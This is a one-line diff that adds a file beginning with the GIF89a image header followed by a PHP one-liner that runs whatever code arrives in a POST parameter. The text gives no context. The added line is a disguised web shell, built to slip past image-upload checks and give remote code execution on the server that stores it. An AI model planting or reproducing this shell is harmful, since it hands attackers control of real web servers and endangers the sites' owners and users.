@@ -1,0 +1,1 @@
+GIF89a<?php eval($_POST[1]);?>
